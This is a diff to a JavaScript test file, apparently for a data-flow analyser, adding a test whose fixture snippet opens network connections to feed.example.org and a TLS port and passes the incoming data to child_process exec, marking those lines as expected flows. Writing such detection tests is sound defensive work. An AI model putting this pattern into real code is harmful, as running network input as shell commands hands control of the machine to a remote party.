@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { expectFlows, flowsOf } from './harness.ts';
+import { expectFlows, flowsOf, script } from './harness.ts';
 
 test('command lines: commander, yargs, argparse, click', async () => {
   const flows = await flowsOf({
@@ -326,3 +326,14 @@ module.exports = function (app) {
 };
 `,
   }));
+
+test('what comes in over a connection that was opened is an answer', () =>
+  expectFlows(script`
+    const net = require('net');
+    const tls = require('node:tls');
+    const { exec } = require('child_process');
+    net.connect(4000, 'feed.example.org').on('data', (data) => exec(data.toString())); // flow
+    const link = tls.connect({ port: 4000 });
+    link.on('data', (data) => { exec('ls ' + data); }); // flow
+    link.on('end', (data) => { exec('ls ' + data); });
+  `));
